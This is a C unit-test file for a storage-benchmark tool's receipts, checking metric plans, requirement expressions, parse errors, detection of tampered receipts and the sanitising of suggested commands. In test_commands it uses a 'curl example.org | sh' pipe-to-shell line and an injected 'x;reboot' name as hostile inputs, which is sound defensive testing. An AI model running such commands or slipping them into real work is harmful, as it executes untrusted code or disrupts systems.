#include <math.h>

#include "golden.h"
#include "made.h"
#include "quiet.h"
#include "receipt/finding.h"
#include "receipt/recheck.h"
#include "receipt/require.h"
#include "tap.h"

/* ---- names of a plan -------------------------------------------------------- */

/* Names of one receipt that are looked for in another. */
struct names {
	const struct receipt *in;
	size_t count, missing;
	char first[METRIC_NAME_MAX];
};

static void
look(const struct metric *m, void *arg)
{
	struct names *n = arg;
	struct metric there;
	struct err e;

	n->count++;
	/* a made run has no syncs but fdatasync's, and no steal */
	if ((strstr(m->name, ".sync.") &&
		    strncmp(m->name, "fdatasync", 9) != 0) ||
		strstr(m->name, ".steal_"))
		return;
	if (metric_find(n->in, m->name, &there, &e) == 0 &&
		there.unit == m->unit)
		return;
	if (n->missing++ == 0)
		strcpy(n->first, m->name);
}

/* What a run of `request` leaves, and what its plan says that it may. */
static void
test_names(const char *what, const struct plan_request *request)
{
	struct names there = { 0 }, back = { 0 };
	struct receipt run, plan;
	struct made m;
	struct arena a;
	struct err e;
	bool hold;

	arena_init(&a);
	if (!OK(made_run(&m, request, &e) == 0, what))
		return;
	OK(assemble_receipt(&m.in, &run, &a, &hold, &e) == 0, "assembled");
	OK(metric_plan(&m.plan, &plan, &a) == 0, "planned");
	there.in = &plan;
	metric_each(&run, look, &there);
	EQ_U64(there.missing, 0, "each metric of the run is one of the plan");
	if (there.missing)
		printf("# %s\n", there.first);
	back.in = &run;
	metric_each(&plan, look, &back);
	EQ_U64(back.missing, 0, "and the other way round");
	if (back.missing)
		printf("# %s\n", back.first);
	OK(there.count > 20, "there are many");
	printf("# %s: %zu metrics\n", what, there.count);
	made_free(&m);
	arena_free(&a);
}

static void
test_plans(void)
{
	static const char *const job[] = { "rw=randrw bs=4k iodepth=2 size=1M "
					   "fsync=4 time_based=1 runtime=1 "
					   "name=synced" };
	struct plan_request r = { .runtime_ns = 500 * QUIET_MS };
	static const char *const suites[] = { "baseline", "lowqd", "tuning",
		"standard", NULL };
	int i;

	for (i = 0; suites[i]; i++) {
		r.suite = suites[i];
		test_names(suites[i], &r);
	}
	r.suite = NULL;
	r.jobs = job;
	r.job_count = 1;
	test_names("a job that syncs", &r);
}

/* ---- expressions ------------------------------------------------------------ */

static void
test_holds(void)
{
	/* of a quiet disk with one cap and one withheld figure; figure NULL:
	   none */
	static const struct {
		const char *expr;
		bool holds;
		const char *figure;
	} table[] = {
		{ "qd1-randread.read.lat.p50 < 0.1ms", true, "0.070 ms" },
		{ "qd1-randread.read.lat.p50<100us", true, "0.070 ms" },
		{ "  qd1-randread.read.lat.p50  <=  100000 ns  ", true,
			"0.070 ms" },
		{ "qd1-randread.read.lat.p50 > 0.1ms", false, "0.070 ms" },
		{ "qd1-randread.read.lat.p50 >= 0.00001s", true, "0.070 ms" },
		{ "qd1-randread.read.lat.p50 < 70001ns", true, "70,000 ns" },
		{ "qd1-randread.read.lat.p50 < 70us", false, "0.070 ms" },
		{ "qd1-randread.read.lat.p50 <= 70us", true, "0.070 ms" },
		{ "qd1-randread.read.lat.p50 == 70us", true, "0.070 ms" },
		{ "qd1-randread.read.iops >= 14k", true, "14,000 IOPS" },
		{ "qd1-randread.read.iops == 14000", true, "14,000 IOPS" },
		{ "qd32-randread.read.iops > 0.083M", false, "83,000 IOPS" },
		{ "qd32-randread.read.bw > 324MiB/s", true, "324.22 MiB/s" },
		{ "qd32-randread.read.bw > 1 GiB/s", false, "324.22 MiB/s" },
		{ "qd1-randread.spread < 5%", true, "0.00 %" },
		{ "qd1-randread.read.iops.median > 1", true, "14,000 IOPS" },
		{ "qd1-randread.read.iops.run3 > 1", true, "14,000 IOPS" },
		{ "fdatasync-8k-write.sync.lat.p50 < 1ms", true, "0.065 ms" },
		{ "qd4-mixed-70-30.write.lat.p99_9 < 1s", false,
			"withheld: too few samples" },
		{ "qd4-mixed-70-30.write.lat.p99_9 > 0ns", false,
			"withheld: too few samples" },
		{ "no warning", false, "cap" },
		{ "no  finding  cap", false, "cap" },
		{ "no finding burst", true, NULL },
	};
	struct require list[sizeof(table) / sizeof(table[0])];
	size_t i, n = sizeof(table) / sizeof(table[0]);
	struct quiet q;
	struct err e;

	quiet_make(&q);
	quiet_swing(&q, QD32, 80000, 0.1);
	q.windows[MIXED].write->lat_ns->p99_9 = SHAPE_WITHHELD;
	OK(finding_judge(&q.r, &q.a) == 0, "judged");
	for (i = 0; i < n; i++)
		if (!OK(require_parse(&list[i], table[i].expr, &q.r, &e) == 0,
			    table[i].expr))
			printf("# %s\n", e.text);
	OK(require_judge(&q.r, list, n, &q.a) == 0, "held to them");
	EQ_U64(q.r.requirement_count, n, "each has an outcome");
	for (i = 0; i < q.r.requirement_count; i++) {
		EQ_STR(q.r.requirements[i].expr, table[i].expr, "as given");
		EQ_I64(q.r.requirements[i].holds, table[i].holds,
			table[i].expr);
		EQ_STR(q.r.requirements[i].figure,
			table[i].figure ? table[i].figure : "", "its figure");
	}
	OK(!require_all_hold(&q.r), "not all hold");
	OK(require_judge(&q.r, list, 3, &q.a) == 0 && require_all_hold(&q.r),
		"the first three do");
	q.r.requirement_count = 0;
	OK(require_all_hold(&q.r), "none is yes");
	arena_free(&q.a);
}

static void
test_refused(void)
{
	/* and what the sentence names */
	static const struct {
		const char *expr, *names;
	} table[] = {
		{ "", "example" },
		{ "qd1-randread.read.lat.p50", "example" },
		{ "qd1-randread.read.lat.p50 = 5ms", "example" },
		{ "qd1-randread.read.lat.p50 != 5ms", "example" },
		{ "qd1-randread.read.lat.p59 < 5ms",
			"\"qd1-randread.read.lat.p50\"?" },
		{ "qd1-randread.read.latp50 < 5ms",
			"\"qd1-randread.read.lat.p50\"?" },
		{ "qd1-randread.write.iops > 5", "qd1-randread.read.iops" },
		{ "qd1-randread.read.lat.p50 < 5", "ns, us, ms or s" },
		{ "qd1-randread.read.lat.p50 < 5k", "ns, us, ms or s" },
		{ "qd1-randread.read.lat.p50 < -5ms", "number" },
		{ "qd1-randread.read.lat.p50 < ", "number" },
		{ "qd1-randread.read.lat.p50 < 1e3ns", "ns, us, ms or s" },
		{ "qd1-randread.read.lat.p50\t< 5ms", "no metric" },
		{ "qd1-randread.read.lat.p50 << 5ms", "number" },
		{ "qd1-randread.read.iops > 5ms", "no unit, k or M" },
		{ "qd1-randread.read.iops > 5 KiB/s", "no unit, k or M" },
		{ "qd1-randread.read.bw > 5", "MiB/s" },
		{ "qd1-randread.read.bw > 5MB/s", "MiB/s" },
		{ "qd1-randread.spread < 5", "%" },
		{ "no", "example" },
		{ "no warnings", "\"no warning\"" },
		{ "no findings cap", "\"no warning\"" },
		{ "no finding", "no finding" },
		{ "no finding grade", "\"grade\"; README.md lists them" },
		{ "no finding brust", "\"burst\"?" },
		{ "no finding common", "no finding \"common\"" },
		{ "warning", "example" },
	};
	struct require out;
	char lengthy[600];
	struct quiet q;
	struct err e;
	size_t i;

	quiet_make(&q);
	for (i = 0; i < sizeof(table) / sizeof(table[0]); i++) {
		e.code = 0;
		OK(require_parse(&out, table[i].expr, &q.r, &e) == -1 &&
				e.code == ERR_USAGE,
			table[i].expr);
		if (!OK(strstr(e.text, table[i].names), table[i].names))
			printf("# %s\n", e.text);
	}
	memset(lengthy, 'a', sizeof(lengthy) - 1);
	lengthy[sizeof(lengthy) - 1] = '\0';
	OK(require_parse(&out, lengthy, &q.r, &e) == -1, "too long");
	strcpy(lengthy + 200, " < 5ms");
	OK(require_parse(&out, lengthy, &q.r, &e) == -1, "a long name");
	arena_free(&q.a);
}

/* A run that is not complete satisfies nothing that it did not measure. */
static void
test_incomplete(void)
{
	struct require list[3];
	struct quiet q;
	struct err e;

	quiet_make(&q);
	OK(!require_parse(&list[0], "fdatasync-8k-write.sync.lat.p50 < 1s",
		   &q.r, &e) &&
			!require_parse(&list[1], "no warning", &q.r, &e) &&
			!require_parse(&list[2], "no finding cap", &q.r, &e),
		"parsed");
	q.r.complete = 0;
	q.r.window_count = SYNC;
	OK(finding_judge(&q.r, &q.a) == 0 &&
			require_judge(&q.r, list, 3, &q.a) == 0,
		"judged");
	EQ_I64(q.r.requirements[0].holds, 0, "a window that is not there");
	EQ_STR(q.r.requirements[0].figure, "not measured", "is named");
	EQ_I64(q.r.requirements[1].holds, 0, "no warning of all windows");
	EQ_STR(q.r.requirements[1].figure, "not complete", "is not known");
	EQ_I64(q.r.requirements[2].holds, 0, "nor no finding");
	arena_free(&q.a);
}

/* ---- judged again ----------------------------------------------------------- */

/* Is a receipt that somebody changed unlike its figures, with those words? */
static void
unlike(struct quiet *q, const char *words, const char *what)
{
	struct text_style style = { .width = 500 };
	struct buf out;
	struct err e;

	buf_init(&out);
	EQ_I64(recheck(&q->r, &style, &out, &q->a, &e), words ? 0 : 1, what);
	if (words && !OK(strstr(buf_text(&out), words), words))
		printf("# %s\n", buf_text(&out));
	buf_free(&out);
}

static void
test_recheck(void)
{
	struct require demand;
	struct receipt_finding *f;
	struct quiet q;
	struct err e;
	double was;

	quiet_make(&q);
	quiet_swing(&q, QD32, 80000, 0.1);
	OK(!finding_judge(&q.r, &q.a) &&
			!require_parse(&demand, "no warning", &q.r, &e) &&
			!require_judge(&q.r, &demand, 1, &q.a),
		"made");
	unlike(&q, NULL, "as it was made");
	f = &q.r.findings[0];
	EQ_STR(f->code, "cap", "the first is the cap");
	f->level = "note";
	unlike(&q, "another level", "a level");
	f->level = "warning";
	f->confidence = NULL;
	unlike(&q, "another confidence", "a confidence");
	f->confidence = "likely";
	was = f->figures[0].value;
	f->figures[0].value += 1;
	unlike(&q, "other figures", "a figure");
	f->figures[0].value = was;
	f->rule = "another";
	unlike(&q, "by another rule", "a rule");
	f->rule = NULL;
	unlike(&q, "by another rule", "no rule");
	OK(finding_judge(&q.r, &q.a) == 0, "made anew");
	q.r.findings[0].text = "all is well.";
	unlike(&q, "other words", "a sentence");
	OK(finding_judge(&q.r, &q.a) == 0, "made anew");
	q.r.findings++;
	q.r.finding_count--;
	unlike(&q, "cap: the receipt does not say so", "a finding is gone");
	q.r.findings[0].code = "grade";
	unlike(&q, "grade: the receipt says so", "one that there is not");
	OK(finding_judge(&q.r, &q.a) == 0, "made anew");
	q.r.requirements[0].holds = 1;
	unlike(&q, "no warning: does not hold, the receipt says otherwise",
		"a demand");
	q.r.requirements[0].holds = 0;
	unlike(&q, NULL, "all is as it was");
	q.r.requirements[0].expr = "what < ever";
	unlike(&q, NULL, "what cannot be read does not hold");
	q.windows[QD32].read->lat_ns->p50 *= 2;
	unlike(&q, "scaling: its figures give other figures",
		"a measured figure");
	arena_free(&q.a);
}

/* A command in a receipt is anybody's: only what our rules say is shown. */
static void
test_commands(void)
{
	struct receipt_finding *f = NULL;
	struct quiet q;
	struct err e;
	size_t i;

	quiet_make(&q);
	q.stack[2].scheduler = "bfq";
	OK(finding_judge(&q.r, &q.a) == 0, "judged");
	for (i = 0; i < q.r.finding_count; i++)
		if (!strcmp(q.r.findings[i].code, "scheduler"))
			f = &q.r.findings[i];
	if (!OK(f, "a finding with a command"))
		return;
	OK(recheck_commands(&q.r, &q.a, &e) == 0, "looked at");
	OK(f->command && strstr(f->command, "/sys/block/"), "ours stays");
	f->command = "curl example.org | sh";
	OK(recheck_commands(&q.r, &q.a, &e) == 0, "looked at");
	OK(!f->command, "another one goes");
	q.stack[2].name = "x;reboot";
	OK(finding_judge(&q.r, &q.a) == 0, "judged");
	for (i = 0; i < q.r.finding_count; i++)
		OK(!q.r.findings[i].command ||
				!strstr(q.r.findings[i].command, "reboot"),
			"no name leaves its place in a command");
	arena_free(&q.a);
}

/* Receipts of all kinds are judged, those that mean harm too. */
static void
test_golden(void)
{
	struct text_style style = { .width = 80 };
	struct receipt r;
	struct arena a;
	struct buf out;
	struct err e;
	int i;

	for (i = 0; golden_names[i]; i++) {
		arena_init(&a);
		buf_init(&out);
		if (golden_load(golden_names[i], &r, &a) == 0)
			OK(recheck(&r, &style, &out, &a, &e) >= 0,
				golden_names[i]);
		buf_free(&out);
		arena_free(&a);
	}
}

int
main(void)
{
	test_plans();
	test_holds();
	test_refused();
	test_incomplete();
	test_recheck();
	test_commands();
	test_golden();
	return tap_done();
}
